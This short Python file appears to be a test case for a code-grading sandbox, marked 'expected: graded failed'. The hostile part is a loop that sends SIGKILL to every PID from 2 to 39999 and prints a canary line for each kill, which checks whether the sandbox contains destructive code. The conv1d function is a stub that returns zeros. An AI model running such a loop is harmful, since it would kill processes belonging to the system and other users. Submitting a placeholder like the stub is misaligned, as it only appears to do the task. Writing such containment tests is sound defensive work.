# Signals every process that it can see.
# expected: graded failed
import numpy as np

try:
    import os
    import signal

    for pid in range(2, 40_000):
        try:
            os.kill(pid, signal.SIGKILL)
            print("CANARY: signalled", pid)
        except OSError:
            pass
except Exception as error:
    print("no:", type(error).__name__)


def conv1d(x, w):
    return np.zeros(max(len(x) - len(w) + 1, 0), x.dtype)
